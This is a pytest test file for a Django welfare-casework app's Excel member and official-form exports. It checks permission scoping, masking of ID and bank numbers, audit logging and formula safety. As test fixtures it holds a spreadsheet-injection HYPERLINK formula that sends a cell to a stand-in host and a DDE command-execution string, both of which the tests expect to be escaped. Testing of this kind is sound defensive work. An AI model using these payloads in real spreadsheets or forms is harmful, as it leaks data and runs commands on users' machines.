"""The member-level roster (every person, with relation, school and grade): scoped, masked by the
user's permission (an unmasked one logged), formula-safe, titled with the filter, money as numbers."""

import datetime
import io
from decimal import Decimal

from django.urls import reverse
from openpyxl import load_workbook

from cases.models import Member, SensitiveAccess, Status

from .conftest import make_household, make_id_number

HEAD_ID = make_id_number(serial=91)
CHILD_ID = make_id_number(datetime.date(2006, 9, 1), serial=92)


def _sheet(response):
    return load_workbook(io.BytesIO(b"".join(response.streaming_content))).active


def _household(community, clerk):
    household = make_household(community, clerk, head_name="张志强", head_id=HEAD_ID, status=Status.APPROVED,
                               members=[("张小明", "child", CHILD_ID)])
    Member.objects.filter(id_number=CHILD_ID).update(school='=HYPERLINK("http://x.example/?"&F3,"点我")', grade="大二",
                                                     enrolment_year=2024, work_status="student")
    Member.objects.filter(id_number=HEAD_ID).update(monthly_income=Decimal("1234.50"))
    return household


def test_every_person_of_the_users_subtree_masked_and_formula_safe(client, township_reviewer, community,
                                                                   community_clerk, sibling_community, outsider):
    _household(community, community_clerk)
    make_household(sibling_community, outsider, head_name="王新哨")
    client.force_login(township_reviewer)
    sheet = _sheet(client.get(reverse("cases:household_member_export"), {"category": "deep"}))
    assert "困难类别=深度困难" in sheet["A1"].value
    rows = list(sheet.iter_rows(min_row=3))
    assert [r[3].value for r in rows] == ["张志强", "张小明"]
    head, child = rows
    assert (child[2].value, child[4].value, child[12].data_type, child[13].value, child[14].value) == (
        "张志强", "子女", "s", "大二", 2024)
    assert child[12].value.startswith("'=HYPERLINK")
    assert head[5].value == HEAD_ID[:6] + "********" + HEAD_ID[-4:] and head[7].value == "1975年"
    assert head[15].value == 1234.5 and head[15].number_format == "#,##0.00"
    assert not SensitiveAccess.objects.exists()


def test_an_unmasked_member_roster_is_logged_with_its_filter(client, center_admin, community, community_clerk):
    _household(community, community_clerk)
    client.force_login(center_admin)
    sheet = _sheet(client.get(reverse("cases:household_member_export"), {"unmask": "1"}))
    assert [r[5].value for r in sheet.iter_rows(min_row=3)] == [HEAD_ID, CHILD_ID]
    access = SensitiveAccess.objects.get()
    assert access.channel == "export" and access.row_count == 1


def test_the_member_roster_runs_a_fixed_number_of_queries(client, township_reviewer, community, community_clerk,
                                                          django_assert_max_num_queries):
    for _ in range(12):
        make_household(community, community_clerk, members=[("李秀英", "spouse", make_id_number(male=False))])
    client.force_login(township_reviewer)
    with django_assert_max_num_queries(12):
        response = client.get(reverse("cases:household_member_export"))
        rows = list(_sheet(response).iter_rows(min_row=3))
    assert len(rows) == 24


def test_the_official_form_order_export_has_the_heads_fields_masked_and_money_as_numbers(
    client, township_reviewer, community, community_clerk, sibling_community, outsider, django_assert_max_num_queries
):
    from cases.exports import OFFICIAL_COLUMNS

    household = _household(community, community_clerk)
    household.bank_account = "6222020200112233445"
    household.address = "@SUM(1+1)*cmd|' /C calc'!A0"
    household.save()
    make_household(sibling_community, outsider, head_name="王新哨")
    for _ in range(5):
        make_household(community, community_clerk)
    client.force_login(township_reviewer)
    with django_assert_max_num_queries(14):
        sheet = _sheet(client.get(reverse("cases:household_official_export"), {"status": "approved"}))
    assert [c.value for c in sheet[2]] == OFFICIAL_COLUMNS and "状态=在档" in sheet["A1"].value
    (row,) = list(sheet.iter_rows(min_row=3))
    value = {name: cell for name, cell in zip(OFFICIAL_COLUMNS, row)}
    assert value["姓名"].value == "张志强" and value["身份证号"].value == HEAD_ID[:6] + "********" + HEAD_ID[-4:]
    assert value["出生日期"].value == "1975年" and value["银行账号"].value.startswith("622202") and "*" in value["银行账号"].value
    assert value["本人月收入（元）"].value == 1234.5 and value["本人月收入（元）"].number_format == "#,##0.00"
    assert value["家庭住址"].data_type == "s" and value["家庭住址"].value.startswith("'@")
